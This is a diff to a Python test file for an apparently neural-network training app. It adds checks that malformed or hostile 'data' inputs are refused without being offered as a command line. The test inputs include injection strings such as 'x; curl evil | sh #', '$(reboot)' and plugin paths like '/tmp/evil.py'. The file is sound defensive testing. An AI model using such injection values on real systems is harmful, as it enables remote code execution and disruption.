@@ -110,7 +110,8 @@ WRONG = {
     "boundary.x": ("height", "no input 'height'"),
     "boundary.output": ("4", "expected a number from 1 to 3"),
     "lesson": ("cooking", "no lesson 'cooking'"),
-    "data": ("houses.csv --data '", "backlit page houses.csv"),
+    "data": ("../houses.csv --run fast", "start the program with it: backlit page ../houses.csv --run fast."),
+    "data.open": ("houses.csv --data '", "the address is of other data"),
     "data.target": ("colour", "colour"),
     "nonsense": ("1", "nonsense"),
     "layers": ("many", "'many' is no layer"),
@@ -123,8 +124,15 @@ def test_what_does_not_fit_is_refused_in_the_words_of_its_panel(name: str) -> No
     session = new()
     session.do("bar.advance", {"epochs": 1})
     weights = session.training.network.parameters.copy()
-    assert words in refused(session, {name.removesuffix(".long"): text})
+    assert words in refused(session, {name.partition(".long")[0].removesuffix(".open"): text})
     assert session.training.network.parameters.tobytes() == weights.tobytes()
+
+
+@pytest.mark.parametrize("data", ["x; curl evil | sh #", "iris --plugin /tmp/evil.py", "$(reboot)", "--plugin=e.py"])
+def test_no_command_is_offered_that_an_address_made(data: str) -> None:
+    words = refused(new(), {"data": data})
+    assert "the address is of other data" in words
+    assert "backlit page" not in words
 
 
 def test_all_that_is_wrong_is_said_and_the_rest_is_chosen() -> None:
